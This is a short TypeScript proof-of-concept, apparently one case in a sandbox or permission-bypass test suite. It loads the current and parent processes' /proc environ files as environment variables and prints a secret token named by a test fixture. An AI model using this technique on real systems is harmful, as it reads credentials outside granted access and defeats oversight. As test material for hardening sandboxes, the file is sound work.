// Cheat: has Node load a file as environment variables
// Works: in-process
// Proof: loot

import { scene } from "./scene.ts";
import { writeFileSync } from "node:fs";

console.log(process.getBuiltinModule("node:util").parseEnv(`A=${scene.tokenVariable}`));
try {
  process.loadEnvFile(`/proc/${process.pid}/environ`);
  process.loadEnvFile(`/proc/${process.ppid}/environ`);
} catch {
  // What the variables that are there already say is as good.
}
writeFileSync(1, `${process.env[scene.tokenVariable]}\n`);
